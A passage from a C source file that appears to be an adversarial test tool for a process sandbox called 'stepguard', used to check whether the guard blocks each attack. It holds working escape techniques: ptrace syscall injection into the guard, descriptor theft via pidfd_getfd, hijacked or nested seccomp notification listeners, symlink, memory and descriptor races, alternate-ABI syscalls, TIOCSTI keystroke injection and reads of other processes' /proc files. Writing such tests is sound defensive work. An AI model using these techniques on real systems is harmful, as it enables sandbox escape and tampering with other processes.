		memcpy(&w, argv[0] + i, len - i < sizeof(long) ? len - i : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, g, addr + i, w) < 0) {
			ptrace(PTRACE_DETACH, g, 0, 0);
			return refused("PTRACE_POKEDATA");
		}
	}
	regs.rip = saved.rip - 2;
	regs.rax = SYS_mkdir;
	regs.orig_rax = (unsigned long)-1; /* no syscall restart on resume */
	regs.rdi = addr;
	regs.rsi = 0755;
	if (ptrace(PTRACE_SETREGS, g, 0, &regs) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, g, 0, 0) < 0 || waitpid(g, &st, __WALL) < 0 ||
	    ptrace(PTRACE_GETREGS, g, 0, &regs) < 0) {
		int r = refused("inject mkdir");

		ptrace(PTRACE_SETREGS, g, 0, &saved);
		ptrace(PTRACE_DETACH, g, 0, 0);
		return r;
	}
	ptrace(PTRACE_SETREGS, g, 0, &saved);
	ptrace(PTRACE_DETACH, g, 0, 0);
	if ((long)regs.rax < 0) {
		errno = (int)-(long)regs.rax;
		return refused("mkdir(%s) run by %d", argv[0], (int)g);
	}
	return ok("mkdir(%s) run by %d [%s]", argv[0], (int)g, comm);
#else
	errno = ENOSYS;
	return refused("ptrace injection: x86_64 only");
#endif
}

/* Write to every descriptor of the guard, reopened through /proc. */
static int cmd_guard_fd_reopen(int argc, char **argv)
{
	char dir[64], p[384], target[PATH_MAX];
	struct dirent *de;
	pid_t g = find_guard();
	int landed = 0;
	DIR *d;

	if (argc != 1)
		return usage_error("guard-fd-reopen DATA");
	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)g);
	reach("opendir(%s), then open each O_WRONLY", dir);
	d = opendir(dir);
	if (!d)
		return refused("opendir(%s)", dir);
	while ((de = readdir(d))) {
		ssize_t n;
		int fd;

		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
		n = readlink(p, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		reach("open(%s -> %s, O_WRONLY)", p, target);
		fd = open(p, O_WRONLY | O_APPEND | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0) {
			refused("open(%s -> %s, O_WRONLY)", p, target);
			continue;
		}
		if (write_all(fd, argv[0], strlen(argv[0])) == 0)
			landed += !ok("wrote to %s -> %s", p, target);
		else
			refused("write(%s -> %s)", p, target);
		close(fd);
	}
	closedir(d);
	if (!landed) {
		errno = EPERM;
		return refused("no descriptor of %d was writable", (int)g);
	}
	return 0;
}

/* Take descriptor FD of process PID with pidfd_getfd(2), write DATA to it. */
static int cmd_steal_fd(int argc, char **argv)
{
	long pid, n;

	if (argc != 3 || !parse_long(argv[0], &pid) || !parse_long(argv[1], &n))
		return usage_error("steal-fd PID FD DATA");
#ifdef SYS_pidfd_open
	reach("pidfd_open(%ld), pidfd_getfd(%ld)", pid, n);
	int pfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
	int fd, r;

	if (pfd < 0)
		return refused("pidfd_open(%ld)", pid);
	fd = (int)syscall(SYS_pidfd_getfd, pfd, (int)n, 0);
	close(pfd);
	if (fd < 0)
		return refused("pidfd_getfd(%ld, %ld)", pid, n);
	ok("pidfd_getfd(%ld, %ld)", pid, n);
	r = append_fd(fd, "the stolen descriptor", argv[2]);
	close(fd);
	return r;
#else
	errno = ENOSYS;
	return refused("pidfd: not known on this architecture");
#endif
}

/* ------------------------------------------------------------------ */
/* Seccomp user notification: hijack, nest, race                        */

static bool is_notify_fd(int fd)
{
	char p[64], t[128];
	ssize_t n;

	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	n = readlink(p, t, sizeof(t) - 1);
	if (n < 0)
		return false;
	t[n] = '\0';
	return strstr(t, "seccomp notify") != NULL;
}

static void *responder(void *arg)
{
	int fd = (int)(intptr_t)arg;
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
	return NULL;
}

static int start_responders(int fd, int n)
{
	pthread_t t;

	for (int i = 0; i < n; i++) {
		if (pthread_create(&t, NULL, responder, (void *)(intptr_t)fd) != 0)
			return -1;
		pthread_detach(t);
	}
	return 0;
}

/*
 * Find a seccomp listener we could answer ourselves: one leaked to the
 * step, or one taken from the guard with pidfd_getfd.  Answer everything
 * with CONTINUE, then run the attribute attacks on PATH.
 */
static int cmd_notify_hijack(int argc, char **argv)
{
	int found = 0;

	if (argc != 1)
		return usage_error("notify-hijack PATH");
	for (int fd = 0; fd < 1024; fd++)
		if (is_notify_fd(fd)) {
			ok("found a seccomp listener at our fd %d", fd);
			start_responders(fd, 4);
			found++;
		}
#ifdef SYS_pidfd_open
	pid_t g = find_guard();
	int pfd = (int)syscall(SYS_pidfd_open, g, 0);

	if (pfd < 0) {
		refused("pidfd_open(%d)", (int)g);
	} else {
		int stolen = 0;

		for (int n = 0; n < 256; n++) {
			int fd = (int)syscall(SYS_pidfd_getfd, pfd, n, 0);

			if (fd < 0) {
				if (n == 0)
					refused("pidfd_getfd(%d, 0)", (int)g);
				continue;
			}
			stolen++;
			if (is_notify_fd(fd)) {
				ok("stole the seccomp listener of %d (its fd %d)", (int)g, n);
				start_responders(fd, 4);
				found++;
			} else {
				close(fd);
			}
		}
		if (stolen)
			ok("pidfd_getfd took %d descriptors of %d", stolen, (int)g);
	}
#endif
	note("%d listener(s) under our control", found);
	return attr_attack(argv[0]) ? 0 : 1;
}

/*
 * Install our own filter that sends the attribute syscalls to our own
 * listener, which answers CONTINUE.  Of two filters both answering
 * USER_NOTIF, the kernel notifies the newest: if stepguard's supervisor
 * relies on its notification alone, it never hears of these calls.
 */
static int cmd_nested_notify(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("nested-notify PATH");
#if defined(__x86_64__)
	static const unsigned nrs[] = {
		SYS_chmod, SYS_fchmod, SYS_fchmodat, SYS_chown, SYS_fchown, SYS_lchown,
		SYS_fchownat, SYS_utimensat, SYS_utimes, SYS_utime, SYS_futimesat,
		SYS_setxattr, SYS_lsetxattr, SYS_fsetxattr, SYS_removexattr, SYS_lremovexattr,
		SYS_fremovexattr, SYS_truncate, SYS_ftruncate, SYS_fchmodat2, SYS_setxattrat,
		SYS_removexattrat,
	};
	enum { N = sizeof(nrs) / sizeof(nrs[0]) };
	struct sock_filter f[N + 6];
	struct sock_fprog prog;
	size_t k = 0;
	int lfd;

	f[k++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
					      offsetof(struct seccomp_data, arch));
	f[k++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0xc000003e /* x86_64 */,
					      1, 0);
	f[k++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	f[k++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
					      offsetof(struct seccomp_data, nr));
	for (size_t i = 0; i < N; i++)
		/* match: jump over the remaining tests and the ALLOW */
		f[k++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nrs[i],
						      (unsigned char)(N - i), 0);
	f[k++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	f[k++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF);
	prog.len = (unsigned short)k;
	prog.filter = f;
	reach("seccomp(SET_MODE_FILTER, NEW_LISTENER), then the attribute calls");
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		return refused("PR_SET_NO_NEW_PRIVS");
	lfd = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER,
			   &prog);
	if (lfd < 0)
		return refused("seccomp(SET_MODE_FILTER, NEW_LISTENER)");
	ok("installed our own notify filter (listener fd %d)", lfd);
	if (start_responders(lfd, 2) < 0)
		return refused("pthread_create");
	return attr_attack(argv[0]) ? 0 : 1;
#else
	errno = ENOSYS;
	return refused("nested-notify: x86_64 only");
#endif
}

static atomic_bool race_stop;

struct flip_links {
	const char *link, *a, *b;
	char tmp[PATH_MAX];
};

static void *flip_links(void *arg)
{
	struct flip_links *fl = arg;

	while (!atomic_load(&race_stop)) {
		unlink(fl->tmp);
		if (symlink(fl->a, fl->tmp) == 0)
			rename(fl->tmp, fl->link);
		unlink(fl->tmp);
		if (symlink(fl->b, fl->tmp) == 0)
			rename(fl->tmp, fl->link);
	}
	return NULL;
}

static int race_loop(const char *path, double seconds, const char *what)
{
	struct timespec ts[2];
	long n = 0, changed = 0;
	double end = now_s() + seconds;

	set_epoch(ts);
	reach("%s: chmod/utimensat/setxattr of %s for %.0f s", what, path, seconds);
	while (now_s() < end) {
		changed += chmod(path, 0600) == 0;
		changed += utimensat(AT_FDCWD, path, ts, 0) == 0;
		changed += setxattr(path, "user.sgadv", "pwned", 5, 0) == 0;
		n++;
	}
	note("%s: %ld rounds, %ld calls succeeded (on whichever file)", what, n, changed);
	return changed ? 0 : 1;
}

/*
 * A symlink inside the work dir flips between INSIDE and OUTSIDE while we
 * chmod/utimensat/setxattr through it: a supervisor that checks the path
 * and then lets the kernel resolve it again loses this race.
 */
static int cmd_race_symlink(int argc, char **argv)
{
	struct flip_links fl;
	pthread_t t;
	long secs;
	int r;

	if (argc != 4 || !parse_long(argv[3], &secs))
		return usage_error("race-symlink LINK INSIDE OUTSIDE SECONDS");
	fl.link = argv[0];
	fl.a = argv[1];
	fl.b = argv[2];
	snprintf(fl.tmp, sizeof(fl.tmp), "%s.tmp", argv[0]);
	if (symlink(fl.a, fl.link) < 0)
		return refused("symlink(%s, %s)", fl.a, fl.link);
	if (pthread_create(&t, NULL, flip_links, &fl) != 0)
		return refused("pthread_create");
	r = race_loop(fl.link, (double)secs, "race-symlink");
	atomic_store(&race_stop, true);
	pthread_join(t, NULL);
	return r;
}

struct flip_mem {
	char *buf;
	const char *a, *b;
	size_t n;
};

static void *flip_mem(void *arg)
{
	struct flip_mem *fm = arg;
	volatile char *v = fm->buf;

	while (!atomic_load(&race_stop)) {
		for (size_t i = 0; i < fm->n; i++)
			v[i] = fm->a[i];
		for (size_t i = 0; i < fm->n; i++)
			v[i] = fm->b[i];
	}
	return NULL;
}

/* Pad P with leading slashes to N bytes ("///x" names what "/x" names). */
static char *pad_path(const char *p, size_t n)
{
	size_t l = strlen(p);
	char *r = malloc(n + 1);

	if (!r)
		return NULL;
	memset(r, '/', n - l);
	memcpy(r + n - l, p, l + 1);
	return r;
}

/*
 * The path string itself flips between INSIDE and OUTSIDE in our memory
 * while we call chmod/utimensat/setxattr on it: a supervisor that reads
 * the path, decides, and answers CONTINUE lets the kernel read it again.
 */
static int cmd_race_mem(int argc, char **argv)
{
	struct flip_mem fm;
	pthread_t t;
	size_t n;
	long secs;
	int r;

	if (argc != 3 || !parse_long(argv[2], &secs) || argv[0][0] != '/' || argv[1][0] != '/')
		return usage_error("race-mem /INSIDE /OUTSIDE SECONDS");
	n = strlen(argv[0]) > strlen(argv[1]) ? strlen(argv[0]) : strlen(argv[1]);
	fm.a = pad_path(argv[0], n);
	fm.b = pad_path(argv[1], n);
	fm.buf = calloc(1, n + 1);
	fm.n = n;
	if (!fm.a || !fm.b || !fm.buf)
		return refused("malloc");
	memcpy(fm.buf, fm.a, n);
	if (pthread_create(&t, NULL, flip_mem, &fm) != 0)
		return refused("pthread_create");
	r = race_loop(fm.buf, (double)secs, "race-mem");
	atomic_store(&race_stop, true);
	pthread_join(t, NULL);
	return r;
}

struct flip_fds {
	int d, f;       /* the numbers the attack uses */
	int da, fa, db, fb;
};

static void *flip_fds(void *arg)
{
	struct flip_fds *x = arg;

	while (!atomic_load(&race_stop)) {
		dup2(x->da, x->d);
		dup2(x->fa, x->f);
		dup2(x->db, x->d);
		dup2(x->fb, x->f);
	}
	return NULL;
}

/*
 * Descriptor numbers flip between DIRA (and DIRA/NAME) and DIRB (and
 * DIRB/NAME) while we fchmodat/utimensat relative to the directory fd and
 * fchmod/futimens/fsetxattr the file fd: a supervisor that looks at a
 * descriptor number twice loses.
 */
static int cmd_race_fd(int argc, char **argv)
{
	struct flip_fds x;
	struct timespec ts[2];
	char pa[PATH_MAX], pb[PATH_MAX];
	long secs, n = 0, changed = 0;
	pthread_t t;
	double end;

	if (argc != 4 || !parse_long(argv[3], &secs))
		return usage_error("race-fd DIRA DIRB NAME SECONDS");
	snprintf(pa, sizeof(pa), "%s/%s", argv[0], argv[2]);
	snprintf(pb, sizeof(pb), "%s/%s", argv[1], argv[2]);
	x.da = open(argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC);
	x.db = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	x.fa = open(pa, O_RDONLY | O_CLOEXEC);
	x.fb = open(pb, O_RDONLY | O_CLOEXEC);
	if (x.da < 0 || x.db < 0 || x.fa < 0 || x.fb < 0)
		return refused("open the four descriptors");
	x.d = dup(x.da);
	x.f = dup(x.fa);
	if (pthread_create(&t, NULL, flip_fds, &x) != 0)
		return refused("pthread_create");
	set_epoch(ts);
	reach("fchmodat/utimensat/fchmod/futimens/fsetxattr on flipping descriptors for %ld s", secs);
	end = now_s() + (double)secs;
	while (now_s() < end) {
		changed += fchmodat(x.d, argv[2], 0600, 0) == 0;
		changed += utimensat(x.d, argv[2], ts, 0) == 0;
		changed += fchmod(x.f, 0600) == 0;
		changed += futimens(x.f, ts) == 0;
		changed += fsetxattr(x.f, "user.sgadv", "pwned", 5, 0) == 0;
		n++;
	}
	atomic_store(&race_stop, true);
	pthread_join(t, NULL);
	note("race-fd: %ld rounds, %ld calls succeeded (on whichever file)", n, changed);
	return changed ? 0 : 1;
}

struct flip_cwd {
	const char *a, *b;
};

static void *flip_cwd(void *arg)
{
	struct flip_cwd *x = arg;

	while (!atomic_load(&race_stop)) {
		if (chdir(x->a) < 0 || chdir(x->b) < 0)
			break;
	}
	return NULL;
}

/*
 * The working directory (shared by the threads) flips between DIRA and
 * DIRB while we chmod/utimensat/setxattr the relative NAME.
 */
static int cmd_race_cwd(int argc, char **argv)
{
	struct flip_cwd x;
	pthread_t t;
	long secs;
	int r;

	if (argc != 4 || !parse_long(argv[3], &secs))
		return usage_error("race-cwd DIRA DIRB NAME SECONDS");
	x.a = argv[0];
	x.b = argv[1];
	if (chdir(x.a) < 0)
		return refused("chdir(%s)", x.a);
	if (pthread_create(&t, NULL, flip_cwd, &x) != 0)
		return refused("pthread_create");
	r = race_loop(argv[2], (double)secs, "race-cwd");
	atomic_store(&race_stop, true);
	pthread_join(t, NULL);
	return r;
}

/*
 * chmod (or creat) through another syscall ABI: i386 via int $0x80, x32
 * via the x32 bit.  A filter that only knows x86_64 numbers sees garbage.
 */
static int cmd_abi(int argc, char **argv)
{
	mode_t m = 0600;

	if (argc < 3 || (strcmp(argv[1], "chmod") && strcmp(argv[1], "creat")) ||
	    (argc > 3 && !parse_mode(argv[3], &m)))
		return usage_error("abi i386|x32 chmod|creat PATH [MODE]");
#if defined(__x86_64__)
	bool chm = strcmp(argv[1], "chmod") == 0;
	long ret;

	reach("%s %s(%s)", argv[0], argv[1], argv[2]);
	if (strcmp(argv[0], "i386") == 0) {
		/* The i386 ABI passes 32-bit pointers: copy the path below 4 GiB. */
		char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
		int nr = chm ? 15 /* i386 chmod */ : 8 /* i386 creat */;
		int r32;

		if (low == MAP_FAILED)
			return refused("mmap(MAP_32BIT)");
		snprintf(low, 4096, "%s", argv[2]);
		__asm__ volatile("int $0x80"
				 : "=a"(r32)
				 : "a"(nr), "b"((unsigned)(uintptr_t)low), "c"((unsigned)(chm ? m : 0644))
				 : "memory", "r8", "r9", "r10", "r11");
		ret = r32;
		if (ret >= 0 && !chm)
			close((int)ret);
	} else if (strcmp(argv[0], "x32") == 0) {
		/* x32 keeps x86_64's numbers for these two, plus bit 30. */
		ret = syscall(0x40000000L | (chm ? SYS_chmod : SYS_creat), argv[2], chm ? m : 0644);
		if (ret < 0)
			ret = -errno;
		else if (!chm)
			close((int)ret);
	} else {
		return usage_error("abi i386|x32 chmod|creat PATH [MODE]");
	}
	if (ret < 0) {
		errno = (int)-ret;
		return refused("%s %s(%s)", argv[0], argv[1], argv[2]);
	}
	return ok("%s %s(%s)", argv[0], argv[1], argv[2]);
#else
	errno = ENOSYS;
	return refused("other ABIs: x86_64 only");
#endif
}

/*
 * Type TEXT into our terminal's input queue with TIOCSTI: whoever reads
 * the terminal next (the user's shell, after the step) runs it.  "hi"
 * sets bit 32 of the request, which the kernel ignores and a filter
 * comparing 64 bits would not.
 */
static int cmd_tiocsti(int argc, char **argv)
{
	unsigned long req = TIOCSTI;
	int done = 0;

	if (argc < 1 || argc > 2)
		return usage_error("tiocsti TEXT [hi]");
	if (argc == 2 && strcmp(argv[1], "hi") == 0)
		req |= 1UL << 32;
	reach("ioctl(0, TIOCSTI%s)", argc == 2 ? " | 1<<32" : "");
	for (const char *c = argv[0]; *c; c++) {
		if (syscall(SYS_ioctl, 0, req, c) < 0)
			return refused("ioctl(0, TIOCSTI%s)", argc == 2 ? " | 1<<32" : "");
		done++;
	}
	return ok("pushed %d bytes with TIOCSTI", done);
}

/* ------------------------------------------------------------------ */
/* Reaching other processes (issue 16)                                  */

/*
 * A PID argument: a number, or @FILE holding one (the harness writes the
 * pid of its outside process there once it runs, after the case's
 * command line was fixed).
 */
static bool parse_pid_arg(const char *s, pid_t *out)
{
	char buf[64];
	long v;

	if (s[0] == '@') {
		int fd = open(s + 1, O_RDONLY | O_CLOEXEC);
		ssize_t n;

		if (fd < 0)
			return false;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0)
			return false;
		buf[n] = '\0';
		buf[strcspn(buf, " \n")] = '\0';
		s = buf;
	}
	if (!parse_long(s, &v) || v <= 0 || v > INT32_MAX)
		return false;
	*out = (pid_t)v;
	return true;
}

/* The first line of FILE (after @), or S itself: a path the harness learnt late. */
static const char *word_arg(const char *s, char *buf, size_t len)
{
	int fd;
	ssize_t n;

	if (s[0] != '@')
		return s;
	fd = open(s + 1, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return s;
	n = read(fd, buf, len - 1);
	close(fd);
	buf[n < 0 ? 0 : n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return buf;
}

/* Read all of PATH into OUT (a new file); -1 with errno if PATH cannot be read. */
static ssize_t copy_file(const char *path, const char *out)
{
	char buf[65536];
	ssize_t n, total = 0;
	int in = open(path, O_RDONLY | O_CLOEXEC), o;

	if (in < 0)
		return -1;
	/* Read before creating OUT: a refused read leaves no file to judge. */
	n = read(in, buf, sizeof(buf));
	if (n < 0) {
		int e = errno;

		close(in);
		errno = e;
		return -1;
	}
	o = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (o < 0) {
		close(in);
		return -1;
	}
	while (n > 0) {
		write_all(o, buf, (size_t)n);
		total += n;
		n = read(in, buf, sizeof(buf));
	}
	close(in);
	close(o);
	return total;
}

/*
 * A child of ours that runs `sleep` with SG_ADV_CHILD=own-child in its
 * environment (and this run's SG_ADV_RUN, so the harness's sweep finds
 * it); returns once the exec has happened, so its environ is its own.
 */
static pid_t own_sleeping_child(void)
{
	char env_run[256], buf[64];
	const char *run = getenv("SG_ADV_RUN");
	pid_t pid;

	snprintf(env_run, sizeof(env_run), "SG_ADV_RUN=%s", run ? run : "");
	pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		char *const av[] = { "sleep", "30", NULL };
		char *const ev[] = { env_run, "SG_ADV_CHILD=own-child", "PATH=/usr/bin:/bin", NULL };

		execve("/bin/sleep", av, ev);
		execve("/usr/bin/sleep", av, ev);
		_exit(127);
	}
	/*
	 * The name changes early in execve, before the new stack (and so
	 * the environment's bounds) is set up: a read then finds nothing.
	 * So wait for the name and then for the task to sleep, which it
	 * does only in sleep's own nanosleep, after the exec is done.  Up
	 * to 10 s: a loaded machine under emulation is slow to exec.
	 */
	for (int i = 0; i < 1000; i++) {
		if (strcmp(comm_of(pid, buf, sizeof(buf)), "sleep") == 0 && state_of(pid) == 'S')
			return pid;
		sleep_ms(10);
	}
	return pid;
}

static void reap(pid_t pid)
{
	kill(pid, SIGKILL);
	while (waitpid(pid, NULL, 0) < 0 && errno == EINTR)
		;
}

/*
 * Read /proc/WHO/FILE (WHO: a pid, @PIDFILE, self, child) and copy what
 * was read to OUT, where the harness looks for the outside process's
 * secret.  Nothing is written when the read is refused.
 */
static int cmd_proc_read(int argc, char **argv)
{
	char path[128];
	pid_t pid = 0, child = 0;
	ssize_t n;
	int e;

	if (argc != 3)
		return usage_error("proc-read PID|@PIDFILE|self|child FILE OUT");
	if (strchr(argv[1], '/'))
		return usage_error("proc-read: FILE is a name under /proc/PID");
	if (strcmp(argv[0], "self") == 0) {
		snprintf(path, sizeof(path), "/proc/self/%s", argv[1]);
	} else if (strcmp(argv[0], "child") == 0) {
		child = own_sleeping_child();
		if (child < 0)
			return refused("fork");
		snprintf(path, sizeof(path), "/proc/%d/%s", (int)child, argv[1]);
	} else if (parse_pid_arg(argv[0], &pid)) {
		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, argv[1]);
	} else {
		return usage_error("proc-read: no pid in the PID argument");
	}
	reach("read %s", path);
	n = copy_file(path, argv[2]);
	e = errno;
	if (child > 0)
		reap(child);
	errno = e;
	if (n < 0)
		return refused("read %s", path);
	if (n == 0) {
		/* The kernel answers an empty read when it will not show another's mm. */
		errno = ENODATA;
		unlink(argv[2]);
		return refused("read %s: nothing", path);
	}
	return ok("read %zd bytes of %s into %s", n, path, argv[2]);
}

/* Nice value, CPUs and RLIMIT_FSIZE of PID, as the kernel answers them. */
static int sched_read(pid_t pid, int *nice_out, cpu_set_t *cpus, struct rlimit *fsize)
{
	errno = 0;
	*nice_out = getpriority(PRIO_PROCESS, (id_t)pid);
	if (errno)
		return -1;
	if (sched_getaffinity(pid, sizeof(*cpus), cpus) < 0)
		return -1;
	return prlimit(pid, RLIMIT_FSIZE, NULL, fsize);
}

/* Renice PID to NICE, pin it to CPU 0, set its RLIMIT_FSIZE to 12345; how many landed. */
static int sched_attack(pid_t pid, int nice_to)
{
	struct rlimit lim = { 12345, 12345 };
	cpu_set_t one;
	int landed = 0;

	reach("setpriority(%d, %d)", (int)pid, nice_to);
	if (setpriority(PRIO_PROCESS, (id_t)pid, nice_to) == 0)
		landed += !ok("setpriority(%d, %d)", (int)pid, nice_to);
	else
		refused("setpriority(%d, %d)", (int)pid, nice_to);
	CPU_ZERO(&one);
	CPU_SET(0, &one);
	reach("sched_setaffinity(%d, {0})", (int)pid);
	if (sched_setaffinity(pid, sizeof(one), &one) == 0)
		landed += !ok("sched_setaffinity(%d, {0})", (int)pid);
	else
		refused("sched_setaffinity(%d, {0})", (int)pid);
	reach("prlimit(%d, RLIMIT_FSIZE, 12345)", (int)pid);
	if (prlimit(pid, RLIMIT_FSIZE, &lim, NULL) == 0)
		landed += !ok("prlimit(%d, RLIMIT_FSIZE, 12345)", (int)pid);
	else
		refused("prlimit(%d, RLIMIT_FSIZE, 12345)", (int)pid);
	return landed;
}

/*
 * On another process: the harness reads its nice value, CPUs and limit
 * from outside.  On "child", our own: what the kernel reads back must be
 * what was set, and then OUT says "sched-ok".
 */
static int cmd_sched_set(int argc, char **argv)
{
	struct rlimit fs;
	cpu_set_t cpus;
	pid_t pid;
	int nice_now, landed;

	if (argc < 1 || argc > 2)
		return usage_error("sched-set PID|@PIDFILE|child [OUT]");
	if (strcmp(argv[0], "child") != 0) {
		if (!parse_pid_arg(argv[0], &pid))
			return usage_error("sched-set: no pid in the PID argument");
		landed = sched_attack(pid, 7);
		if (!landed) {
			errno = EPERM;
			return refused("no scheduling call on %d landed", (int)pid);
		}
		return ok("%d of 3 scheduling calls on %d landed", landed, (int)pid);
	}
	if (argc != 2)
		return usage_error("sched-set child OUT");
	pid = own_sleeping_child();
	if (pid < 0)
		return refused("fork");
	errno = 0;
	int want = getpriority(PRIO_PROCESS, 0) + 5;

	if (want > 19)
		want = 19;
	landed = sched_attack(pid, want);
	if (sched_read(pid, &nice_now, &cpus, &fs) < 0) {
		int r = refused("reading back %d's scheduling", (int)pid);

		reap(pid);
		return r;
	}
	reap(pid);
	note("child %d: nice %d (wanted %d), %d CPUs, RLIMIT_FSIZE %llu/%llu", (int)pid, nice_now, want,
	     CPU_COUNT(&cpus), (unsigned long long)fs.rlim_cur, (unsigned long long)fs.rlim_max);
	if (landed != 3 || nice_now != want || CPU_COUNT(&cpus) != 1 || !CPU_ISSET(0, &cpus) ||
	    fs.rlim_cur != 12345 || fs.rlim_max != 12345) {
		errno = EPERM;
		return refused("the child's scheduling is not what was set");
	}
	return create_file(argv[1], "sched-ok\n");
}

/* The start of PID's stack, from its maps, or 0 when they cannot be read. */
static unsigned long stack_of(pid_t pid)
{
	char path[64], line[512];
	unsigned long lo = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	f = fopen(path, "re");
	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f))
		if (strstr(line, "[stack]") && sscanf(line, "%lx-", &lo) == 1)
			break;
	fclose(f);
	return lo;
}

/* Whether this process has capability CAP in its effective set (/proc/self/status). */
static bool has_cap(int cap)
{
	char line[256];
	unsigned long long eff = 0;
	bool found = false;
	FILE *f = fopen("/proc/self/status", "re");

	if (!f)
		return false;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "CapEff: %llx", &eff) == 1) {
			found = true;
			break;
		}
	fclose(f);
	return found && (eff >> cap & 1);
}

/* One memory-placement call's answer R: said, and added to OUT for the judge. */
static bool mm_answer(const char *name, pid_t pid, long r, char *out, size_t len, size_t *o)
{
	if (*o >= len)
		*o = len - 1;
	if (r >= 0) {
		ok("%s(%d)", name, (int)pid);
		*o += (size_t)snprintf(out + *o, len - *o, "landed %s\n", name);
		return true;
	}
	refused("%s(%d)", name, (int)pid);
	*o += (size_t)snprintf(out + *o, len - *o, "refused %s %s\n", name, ename(errno));
	return false;
}

/*
 * The memory-placement calls that name another process: migrate_pages
 * (node 0 to node 0), move_pages (where one page lives) and
 * process_madvise(MADV_COLD) on one page.  Each needs ptrace read access
 * to the target (and process_madvise CAP_SYS_NICE for another process),
 * so Landlock's scoping and the eBPF ptrace guard refuse them outside the
 * step.  Their only effect outside is their answer, so OUT gets one line
 * per call, "landed NAME" or "refused NAME ERRNO", for the harness to
 * judge.  On "self" they must all work on the caller: OUT then says mm-ok.
 */
static int cmd_mm_pages(int argc, char **argv)
{
	static char page[4096] __attribute__((aligned(4096)));
	unsigned long nodes = 1, addr;
	char out[512];
	size_t o = 0;
	int status = 0, pidfd, landed = 0, madv_err = 0;
	struct iovec iov;
	void *pages[1];
	bool self;
	pid_t pid;
	long r;

	if (argc != 2)
		return usage_error("mm-pages PID|@PIDFILE|self OUT");
	self = strcmp(argv[0], "self") == 0;
	if (self)
		pid = getpid();
	else if (!parse_pid_arg(argv[0], &pid))
		return usage_error("mm-pages: no pid in the PID argument");
	page[0] = 1; /* present */
	/*
	 * A page the target has mapped, so that an unconfined run really
	 * moves it; where its maps cannot be read (confined), any address:
	 * the access check comes before the address is looked at.
	 */
	addr = self ? (unsigned long)page : stack_of(pid);
	if (addr == 0)
		addr = (unsigned long)page;
	pages[0] = (void *)addr;

	reach("migrate_pages(%d, node 0 -> node 0)", (int)pid);
	r = syscall(SYS_migrate_pages, self ? 0 : pid, 8 * sizeof(nodes), &nodes, &nodes);
	landed += mm_answer("migrate_pages", pid, r, out, sizeof(out), &o);
	reach("move_pages(%d, %#lx)", (int)pid, addr);
	r = syscall(SYS_move_pages, self ? 0 : pid, 1UL, pages, NULL, &status, 0);
	landed += mm_answer("move_pages", pid, r, out, sizeof(out), &o);
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0) {
		r = -1;
	} else {
		iov.iov_base = (void *)addr;
		iov.iov_len = 4096;
		reach("process_madvise(%d, %#lx, MADV_COLD)", (int)pid, addr);
		r = syscall(SYS_process_madvise, pidfd, &iov, 1UL, MADV_COLD, 0U);
		madv_err = r < 0 ? errno : 0;
		close(pidfd);
		errno = madv_err;
	}
	landed += mm_answer("process_madvise", pid, r, out, sizeof(out), &o);
	/*
	 * Older kernels (6.1 here) want CAP_SYS_NICE for process_madvise()
	 * even on the caller's own mm, and a root step runs without it
	 * (stepguard's capability policy): that refusal is the kernel's rule
	 * for the step's own calls, not the filter's.
	 */
	if (self && r < 0 && madv_err == EPERM && !has_cap(CAP_SYS_NICE)) {
		note("process_madvise on ourselves needs CAP_SYS_NICE on this kernel, which we lack");
		landed++;
	}
	if (self) {
		if (landed != 3) {
			errno = EPERM;
			return refused("%d of 3 calls on ourselves worked", landed);
		}
		return create_file(argv[1], "mm-ok\n");
	}
	if (create_file(argv[1], out) != 0)
		return 1;
	if (!landed) {
		errno = EPERM;
		return refused("no memory-placement call on %d landed", (int)pid);
	}
	return ok("%d of 3 memory-placement calls on %d landed", landed, (int)pid);
}

/*
 * Raise RLIMIT_CORE (to unlimited, else the soft limit to the hard one),
 * then leave a child holding what we got, its pid in PIDFILE: the harness
